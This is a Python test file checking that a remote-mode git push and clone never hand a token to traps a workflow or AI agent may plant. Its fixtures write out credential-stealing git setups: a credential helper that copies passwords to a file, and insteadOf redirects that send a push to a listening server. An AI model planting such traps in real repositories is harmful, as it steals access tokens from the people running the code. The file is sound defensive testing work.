"""Remote mode's credentials never reach what the workflow controls (issue 10).

The workspace repository belongs to the workflow. A workflow (or Claude) plants a pre-push hook,
a credential helper, an insteadOf that redirects the push to a server it listens on, and
fsmonitor/sshCommand/askPass programs. A plain `git push` from that repository hands the token
to them — the canaries below prove the traps work. The results container's push
(`push_from_workspace`) and the init container's clone (`clone_at`) must spring none of them.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from prodigy.k8s.transport.manifest import TransportError
from prodigy.k8s.transport.remote import clone_at, push_from_workspace
from testing.credential_traps import CredentialObserver, credential_observer, sprung, trap_script

from .conftest import commit_all, run_git

BRANCH = "prodigy-session-isolated"
TOKEN = "tok-4b1d-never-leak-this"


@pytest.fixture
def observer() -> Iterator[CredentialObserver]:
    with credential_observer() as running:
        yield running


@pytest.fixture
def bare(user_repo: Path, tmp_path: Path) -> str:
    path = tmp_path / "remote.git"
    run_git(tmp_path, "init", "-q", "--bare", str(path))
    run_git(user_repo, "push", "-q", str(path), "main")
    return f"file://{path}"


@pytest.fixture
def creds(tmp_path: Path) -> Path:
    path = tmp_path / "git-credentials"
    path.mkdir()
    (path / "username").write_text("robot")
    (path / "password").write_text(TOKEN)
    return path


def workspace_with_traps(user_repo: Path, bare: str, creds: Path, observer: CredentialObserver,
                         tmp_path: Path) -> tuple[Path, str, str, Path]:
    """The pod's workspace after a workflow committed and planted its traps."""
    base = run_git(user_repo, "rev-parse", "HEAD")
    pod = tmp_path / "workspace" / "repo"
    clone_at(bare, base, pod, fetch_ref="refs/heads/main", credentials_dir=creds, branch=BRANCH)
    (pod / "work.txt").write_text("made by the workflow\n")
    head = commit_all(pod, "workflow commit")
    records = tmp_path / "traps" / "records"
    script = trap_script(record_dir=records, remote_url=bare, observer_url=observer.url,
                         credentials_dir=str(creds))
    subprocess.run(["sh", "-c", script], cwd=pod, check=True)
    return pod, base, head, records


def naive_push(pod: Path, url: str, head: str, creds: Path) -> None:
    """How the results container pushed before: from the workspace, with the credentials."""
    askpass = creds.parent / "askpass.sh"
    askpass.write_text(f"#!/bin/sh\ncase \"$1\" in Username*) cat {creds}/username;; *) cat {creds}/password;; esac\n")
    askpass.chmod(0o700)
    subprocess.run(["git", "push", "--force", url, f"{head}:refs/heads/{BRANCH}"], cwd=pod, capture_output=True,
                   env={**os.environ, "GIT_ASKPASS": str(askpass), "GIT_TERMINAL_PROMPT": "0"}, check=False)


def test_a_push_from_the_workspace_hands_the_token_to_the_planted_traps(
        user_repo: Path, bare: str, creds: Path, observer: CredentialObserver, tmp_path: Path) -> None:
    pod, _, head, records = workspace_with_traps(user_repo, bare, creds, observer, tmp_path)

    naive_push(pod, bare, head, creds)       # insteadOf: to the observer, which asks for credentials
    assert f"robot:{TOKEN}" in observer.credentials_seen()
    assert TOKEN in sprung(records)["credential-helper"]     # `erase` after the 401 gets the password
    run_git(pod, "config", "--unset-all", f"url.{observer.url}.pushInsteadOf")
    run_git(pod, "config", "--unset-all", f"url.{observer.url}.insteadOf")
    naive_push(pod, bare, head, creds)       # to the real remote: the pre-push hook runs first
    assert TOKEN in sprung(records)["pre-push"]


def test_the_results_container_push_springs_no_trap(
        user_repo: Path, bare: str, creds: Path, observer: CredentialObserver, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    pod, base, head, records = workspace_with_traps(user_repo, bare, creds, observer, tmp_path)
    # Whatever the container inherits cannot point git back at the workspace either.
    monkeypatch.setenv("GIT_DIR", str(pod / ".git"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'url.{observer.url}.insteadOf'='{bare}'")

    push_from_workspace(pod, bare, branch=BRANCH, head_sha=head, base_sha=base, credentials_dir=creds)

    assert sprung(records) == {}
    assert observer.requests == []
    bare_path = Path(bare.removeprefix("file://"))
    assert run_git(bare_path, "rev-parse", f"refs/heads/{BRANCH}") == head
    assert run_git(bare_path, "log", "-1", "--format=%s", BRANCH) == "workflow commit"


def test_the_push_refuses_a_tampered_object_store(user_repo: Path, bare: str, creds: Path, tmp_path: Path) -> None:
    base = run_git(user_repo, "rev-parse", "HEAD")
    pod = tmp_path / "repo"
    clone_at(bare, base, pod, fetch_ref=None, credentials_dir=creds, branch=BRANCH)
    objects = pod / ".git" / "objects"
    os.mkfifo(objects / "pack" / "pack-blocking.idx")      # git would block on it forever
    with pytest.raises(TransportError, match="neither a file nor a directory"):
        push_from_workspace(pod, bare, branch=BRANCH, head_sha=base, base_sha=base, credentials_dir=creds)
    (objects / "pack" / "pack-blocking.idx").unlink()
    (objects / "info" / "alternates").write_text(f"{creds}\n")
    with pytest.raises(TransportError, match="alternates exists"):
        push_from_workspace(pod, bare, branch=BRANCH, head_sha=base, base_sha=base, credentials_dir=creds)
    with pytest.raises(TransportError, match="not a commit id"):
        push_from_workspace(pod, bare, branch=BRANCH, head_sha="--all", base_sha=base, credentials_dir=creds)


def test_the_clone_ignores_global_system_and_env_configuration(
        user_repo: Path, bare: str, creds: Path, observer: CredentialObserver, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    records = tmp_path / "records"
    hostile = tmp_path / "hostile.gitconfig"
    helper = f"!f() {{ echo helper >> {records}/credential-helper; cat >> {records}/credential-helper; }}; f"
    hostile.write_text(f'[url "{observer.url}"]\n\tinsteadOf = {bare}\n[credential]\n\thelper = "{helper}"\n')
    records.mkdir()
    home = tmp_path / "home"
    (home / ".config" / "git").mkdir(parents=True)
    (home / ".gitconfig").write_text(hostile.read_text())
    (home / ".config" / "git" / "config").write_text(hostile.read_text())
    for name, value in {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"),
                        "GIT_CONFIG_SYSTEM": str(hostile), "GIT_CONFIG_GLOBAL": str(hostile),
                        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{observer.url}.insteadOf",
                        "GIT_CONFIG_VALUE_0": bare}.items():
        monkeypatch.setenv(name, value)
    # Canary: a plain fetch in this environment goes to the observer.
    subprocess.run(["git", "ls-remote", bare], capture_output=True, check=False,
                   env={**os.environ, "GIT_ASKPASS": "/bin/echo", "GIT_TERMINAL_PROMPT": "0"})
    assert observer.requests and "credential-helper" in sprung(records)
    observer.requests.clear()
    (records / "credential-helper").unlink()

    base = run_git(user_repo, "rev-parse", "HEAD")
    pod = tmp_path / "pod"
    clone_at(bare, base, pod, fetch_ref=None, credentials_dir=creds, branch=BRANCH)

    assert observer.requests == [] and sprung(records) == {}
    assert run_git(pod, "rev-parse", "HEAD") == base
    assert not (pod / ".git" / "hooks").exists()        # made without templates
